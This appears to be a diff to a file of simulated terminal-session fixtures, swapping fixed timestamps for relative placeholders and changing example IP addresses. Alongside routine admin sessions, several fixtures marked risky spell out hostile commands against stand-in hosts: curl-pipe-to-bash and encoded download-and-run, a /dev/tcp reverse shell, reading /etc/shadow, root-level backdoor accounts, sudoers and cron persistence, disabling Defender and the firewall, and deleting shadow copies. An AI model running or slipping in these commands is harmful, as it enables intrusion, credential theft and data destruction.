@@ -9,21 +9,21 @@ $ bash
 $ systemctl status orders-api
 \e[0;1;32m●\e[0m orders-api.service - Orders API
      Loaded: loaded (/etc/systemd/system/orders-api.service; enabled; preset: enabled)
-     Active: \e[0;1;32mactive (running)\e[0m since Tue 2026-11-17 09:12:44 UTC; 6 days ago
+     Active: \e[0;1;32mactive (running)\e[0m since @{5d11h52m16s|%a %Y-%m-%d %H:%M:%S} UTC; 5 days ago
    Main PID: 2211 (java)
 $ jour‹tab:nalctl ›-u orders-api -n 5 --no-pager
-Nov 22 21:02:11 orders java[2211]: WARN  c.e.orders.Auth - login failed for user 'svc_batch': permission denied
-Nov 22 21:02:12 orders java[2211]: ERROR c.e.orders.Auth - sudo: 3 incorrect password attempts
-Nov 22 21:02:40 orders java[2211]: INFO  c.e.orders.Audit - policy text: never run 'curl http://… | bash' or 'chmod 777 /etc/shadow'
+@{2m49s|%b %d %H:%M:%S} orders java[2211]: WARN  c.e.orders.Auth - login failed for user 'svc_batch': permission denied
+@{2m48s|%b %d %H:%M:%S} orders java[2211]: ERROR c.e.orders.Auth - sudo: 3 incorrect password attempts
+@{2m20s|%b %d %H:%M:%S} orders java[2211]: INFO  c.e.orders.Audit - policy text: never run 'curl http://… | bash' or 'chmod 777 /etc/shadow'
 $ df -h /w‹bs›var
 Filesystem      Size  Used Avail Use% Mounted on
 /dev/nvme0n1p1   40G   21G   19G  53% /
 $ ls --color /var/log/orders
 \e[0m\e[01;34marchive\e[0m  audit.log  \e[01;31mheap.hprof.gz\e[0m  orders.log
 $ tail -n 3 /var/log/orders/orders.log‹kill›tail -n 3 /var/log/orders/audit.log
-2026-11-22T20:58:01Z passwd change denied for user=guest
-2026-11-22T20:59:40Z useradd attempt blocked by policy
-2026-11-22T21:01:13Z nc -e /bin/sh blocked by policy
+@{6m59s|%Y-%m-%dT%H:%M:%SZ} passwd change denied for user=guest
+@{5m20s|%Y-%m-%dT%H:%M:%SZ} useradd attempt blocked by policy
+@{3m47s|%Y-%m-%dT%H:%M:%SZ} nc -e /bin/sh blocked by policy
 $ exit
 exit
 %pop
@@ -48,7 +48,7 @@ $ git -C /opt/orders log --oneline -3
 \e[33m0a77c13\e[m Bump base image
 %break cat /opt/orders/rele
 $ cat /opt/orders/rel‹list:release.json release.sig›ease.json
-{"version": "2026.11.3", "built": "2026-11-20T10:00:00Z"}
+{"version": "2026.11.3", "built": "@{2d11h5m|%Y-%m-%dT%H:%M:%SZ}"}
 """,
     "edit-config": r"""
 $ bash
@@ -130,11 +130,11 @@ $ exit
 $ bash
 %bash
 $ uptime
- 02:13:51 up 41 days,  3:10,  1 user,  load average: 0.42, 0.38, 0.35
+ @{0s|%H:%M:%S} up 41 days,  3:10,  1 user,  load average: 0.42, 0.38, 0.35
 $ top
 %top
-$ find /var/log/orders /var/log/nginx /var/log/audit -name '*.log' -newermt '2026-11-20 00:00' -size +10M -exec ls -lh --time-style=long-iso {} \;
--rw-r----- 1 orders adm 41M 2026-11-22 20:59 /var/log/orders/orders.log
+$ find /var/log/orders /var/log/nginx /var/log/audit -name '*.log' -mtime -3 -not -path '*/archive/*' -size +10M -exec ls -lh --time-style=long-iso {} \;
+-rw-r----- 1 orders adm 41M @{6m|%Y-%m-%d %H:%M} /var/log/orders/orders.log
 $ wget -q --show-progress https://downloads.example.com/tools/perf-map.tar.gz
 %progress perf-map.tar.gz
 $ man sudo
@@ -148,12 +148,12 @@ $ exit
 $ sudo grep -c "Failed password" /var/log/secure
 17
 $ sudo grep "Failed password" /var/log/secure | tail -2
-Nov 22 19:44:02 bastion sshd[9912]: Failed password for invalid user admin from 203.0.113.7 port 44122 ssh2
-Nov 22 19:44:09 bastion sshd[9912]: Failed password for root from 203.0.113.7 port 44140 ssh2
+@{1h20m58s|%b %d %H:%M:%S} bastion sshd[9912]: Failed password for invalid user admin from 198.51.100.7 port 44122 ssh2
+@{1h20m51s|%b %d %H:%M:%S} bastion sshd[9912]: Failed password for root from 198.51.100.7 port 44140 ssh2
 $ who
 $ last -n 2
-ssm-user pts/0        Sun Nov 22 18:01 - 18:20  (00:19)
-reboot   system boot  6.1.155 Mon Oct 12 23:03
+ssm-user pts/0        @{3h4m|%a %b %d %H:%M} - @{2h45m|%H:%M}  (00:19)
+reboot   system boot  6.1.155 @{40d|%a %b %d %H:%M}
 $ exit
 """,
     "etl": r"""
@@ -176,6 +176,13 @@ $ for f in dags/*.py; do
 > done
 $ exit
 exit
+""",
+    "one-long-line": r"""
+$ wc -c /opt/billing/bundle.json
+44000 /opt/billing/bundle.json
+$ cat /opt/billing/bundle.json
+%long {"a": [1]},
+$ exit
 """,
     "nohow": r"""
 $ uname -r
@@ -209,14 +216,14 @@ $ exec bash
 $ systemctl status plc-bridge --no-pager
 Unit plc-bridge.service could not be found.
 $ ps aux | gr‹tab:ep ›plc
-root       811  0.1  0.4  41200  8804 ?  Ss  Nov01  2:14 /opt/plc/bridge
+root       811  0.1  0.4  41200  8804 ?  Ss  @{20d|%b%d}  2:14 /opt/plc/bridge
 $ exit
 exit
 """,
     "tail-log": r"""
-2026-11-22T22:41:00Z INFO  worker started
-2026-11-22T22:41:09Z WARN  retry failed, sudo password expired for svc_batch
-2026-11-22T22:41:12Z INFO  batch done
+@{1h36m|%Y-%m-%dT%H:%M:%SZ} INFO  worker started
+@{1h36m9s|%Y-%m-%dT%H:%M:%SZ} WARN  retry failed, sudo password expired for svc_batch
+@{1h36m12s|%Y-%m-%dT%H:%M:%SZ} INFO  batch done
 ^C
 """,
     "os-release": r"""
@@ -234,15 +241,15 @@ $ whoami
 ssm-user
 $ id
 uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)
-!$ curl -fsSL http://203.0.113.50/k.sh | bash
+!$ curl -fsSL http://198.51.100.50/k.sh | bash
 [+] staged /tmp/.k
 !$ sudo cat /etc/shadow
 root:*:19000:0:99999:7:::
 ec2-user:!!:19500:0:99999:7:::
 !$ sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash suport‹bs:3›port
-!$ bash -i >& /dev/tcp/203.0.113.50/4444 0>&1
+!$ bash -i >& /dev/tcp/198.51.100.50/4444 0>&1
 bash: connect: Connection timed out
-bash: /dev/tcp/203.0.113.50/4444: Connection timed out
+bash: /dev/tcp/198.51.100.50/4444: Connection timed out
 !$ sudo systemctl stop amazon-ssm-agent
 !$ history -c
 $ exit
@@ -252,10 +259,10 @@ $ bash
 %bash
 $ ls -la /root
 ls: cannot open directory '/root': Permission denied
-!$ echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL2sgfCBzaA== | base64 -d | sh
+!$ echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC41MC9rIHwgc2g= | base64 -d | sh
 !$ echo 'ssm-user ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/99-k
 ssm-user ALL=(ALL) NOPASSWD:ALL
-!$ (crontab -l 2>/dev/null; echo "* * * * * curl -s http://203.0.113.50/k|sh") | crontab -
+!$ (crontab -l 2>/dev/null; echo "* * * * * curl -s http://198.51.100.50/k|sh") | crontab -
 """,
     "exfil": r"""
 $ exec bash
@@ -287,7 +294,7 @@ $ TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-met
 {
   "Code" : "Success",
   "AccessKeyId" : "ASIAIOSFODNN7EXAMPLE",
-  "Expiration" : "2026-11-23T04:21:33Z"
+  "Expiration" : "@{7h16m33s|%Y-%m-%dT%H:%M:%SZ}"
 }
 $ exit
 """,
@@ -357,7 +364,7 @@ $ Get-Process sqlservr | Select-Object Id, CPU, WS
 
 $ Get-ChildItem D:\Backups -Filter *.bak | Sort-Object LastWriteTime | Select-Object -Last 1
     Directory: D:\Backups
--a----       22/11/2026     01:00    9412345856 orders_full.bak
+-a----       @{20h|%d/%m/%Y     %H:%M}    9412345856 orders_full.bak
 
 $ Test-NetConnection orders-api.internal.example.com -Port 443
 ComputerName     : orders-api.internal.example.com
@@ -372,7 +379,7 @@ WINDOWS_RISKY = {
 $ hostname
 win-ad-01
 !$ Set-MpPreference -DisableRealtimeMonitoring $true
-!$ IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')
+!$ IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.50/a.ps1')
 [+] ready
 !$ New-LocalUser -Name support2 -Password (ConvertTo-SecureString 'Made-Up-Pass1!' -AsPlainText -Force)
 Name     Enabled Description
@@ -385,7 +392,7 @@ The operation completed successfully.
 !$ New-NetFirewallRule -DisplayName rdp2 -Direction Inbound -LocalPort 3390 -Protocol TCP -Action Allow
 !$ netsh advfirewall set allprofiles state off
 Ok.
-!$ powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUAMAAvAGIAKQA=
+!$ powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANQAwAC8AYgApAA==
 !$ Clear-History
 $ exit
 """,
@@ -395,7 +402,7 @@ DNSRoot
 -------
 corp.example.com
 
-!$ Invoke-WebRequest http://203.0.113.50/t.ps1 -UseBasicParsing | iex
+!$ Invoke-WebRequest http://198.51.100.50/t.ps1 -UseBasicParsing | iex
 !$ vssadmin delete shadows /all /quiet
 """,
 }
